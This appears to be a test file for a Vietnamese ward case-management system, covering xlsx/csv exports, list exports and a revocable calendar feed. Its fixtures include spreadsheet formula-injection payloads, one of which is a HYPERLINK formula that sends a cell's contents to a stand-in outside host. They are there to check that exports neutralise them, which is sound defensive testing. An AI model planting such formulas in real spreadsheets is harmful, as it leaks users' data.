import { readXlsx } from 'hucre/xlsx';
import { csv } from '../../src/office/csv.js';
import { workbook } from '../../src/office/workbook.js';
import { act, makeCase } from '../support/make-case.js';
import { oneEngine } from '../support/services.js';
import { Ward } from '../support/ward.js';

const names = ['=HYPERLINK("http://example.invalid/?"&A1,"xem")', '@SUM(1+1)', '+84912345678', '-cmd'];
const table = {
  name: 'KF-25',
  columns: [{ title: 'Tên' }, { title: 'Số tiền', type: 'vnd' as const }, { title: 'Ngày', type: 'day' as const }],
  rows: names.map((name) => [name, -15_000_000, '2026-04-03']),
};

describe('KF-25: what is typed never becomes a formula', () => {
  test('xlsx: string cells, real numbers, real days', async () => {
    const { sheets } = await readXlsx(await workbook([table]), { readStyles: true });
    const [head, ...rows] = sheets[0]!.rows;
    expect(head).toEqual(['Tên', 'Số tiền', 'Ngày']);
    expect(rows.map((row) => row[0])).toEqual(names);
    expect(rows.map((row) => row[1])).toEqual(names.map(() => -15_000_000));
    expect(rows.map((row) => (row[2] as Date).toISOString().slice(0, 10))).toEqual(names.map(() => '2026-04-03'));
    expect([...sheets[0]!.cells!.values()].filter((cell) => cell.formula !== undefined)).toEqual([]);
  });

  test('csv: shown as typed behind an apostrophe, amounts stay numbers, BOM first', () => {
    const text = csv(table).toString('utf8');
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const lines = text.slice(1).trim().split(/\r?\n/).slice(1);
    for (const [i, line] of lines.entries()) {
      expect(line).toMatch(/^"?'/);
      expect(line.replaceAll('""', '"')).toContain(names[i]);
      expect(line).toContain(';-15000000;03/04/2026');
    }
  });
});

describe.each(oneEngine(import.meta.url))('lists and calendars on %s', (engine) => {
  let ward: Ward;
  beforeAll(async () => {
    ward = await Ward.start({ engine, now: '2026-04-10T08:30:00+07:00' });
  });
  afterAll(() => ward.stop());

  test('a list leaves as the screen shows it, with the columns asked for', async () => {
    const clerk = ward.as('can-bo');
    for (let i = 0; i < 3; i++) await makeCase(clerk, 'household-file', { title: `=Hộ ${i}`, on: '2026-03-02' });
    await makeCase(clerk, 'citizen-petition', { fields: { content: 'Đơn khác' } });
    const query = 'kind=household-file&sort=title&columns=code,title,state,opened';
    const file = await clerk.raw('GET', `/exports/cases?${query}&as=xlsx`);
    expect(file.headers.get('content-disposition')).toContain('attachment');
    const { sheets } = await readXlsx(Buffer.from(await file.arrayBuffer()));
    const rows = sheets[0]!.rows.slice(4);
    expect(rows.map((row) => row[1])).toEqual(['=Hộ 0', '=Hộ 1', '=Hộ 2']);
    expect(rows.map((row) => row[2])).toEqual(Array(3).fill('Đã lập danh sách'));
    const text = await (await clerk.raw('GET', `/exports/cases?${query}&as=csv`)).text();
    expect(text.match(/'=Hộ/g)).toHaveLength(3);
    expect((await clerk.get(`/exports/cases?${query}&as=pdf`)).status).toBe(400);
    expect((await clerk.get('/exports/cases?columns=secret&as=csv')).status).toBe(400);
  });

  test('due dates reach a calendar at a secret address, until it is revoked', async () => {
    const officer = ward.as('can-bo');
    const petition = await makeCase(officer, 'citizen-petition', {
      on: '2026-04-09',
      people: [{ role: 'petitioner', name: 'Trần Thị Kín' }],
      assigneeId: ward.officers['can-bo'].id,
    });
    await act(officer, 'citizen-petition', petition, 'start-classification', '2026-04-10');
    expect((await officer.get('/me/calendar')).body).toEqual({ createdAt: null });
    const { body: made } = await officer.post('/me/calendar');
    const path = new URL(made.url as string).pathname;
    const answer = await fetch(`${ward.url}${path}`);
    expect(answer.headers.get('content-type')).toContain('text/calendar');
    const text = await answer.text();
    const [duty] = await ward.rows<{ due: string }>(
      "SELECT due_on AS due FROM deadline WHERE case_id = $1 AND clock = 'first-answer'",
      [petition.id],
    );
    expect(text).toContain(`DTSTART;VALUE=DATE:${duty!.due.replaceAll('-', '')}`);
    expect(text).toContain(petition.code);
    expect(text).not.toContain('Kín');
    // A second address ends the first.
    const { body: second } = await officer.post('/me/calendar');
    expect((await fetch(`${ward.url}${path}`)).status).toBe(404);
    const other = new URL(second.url as string).pathname;
    expect((await fetch(`${ward.url}${other}`)).status).toBe(200);
    await officer.send('DELETE', '/me/calendar');
    expect((await fetch(`${ward.url}${other}`)).status).toBe(404);
    const kept = await ward.rows<{ secret_hash: string }>('SELECT secret_hash FROM calendar_feed');
    expect(kept).toEqual([]);
  });
});
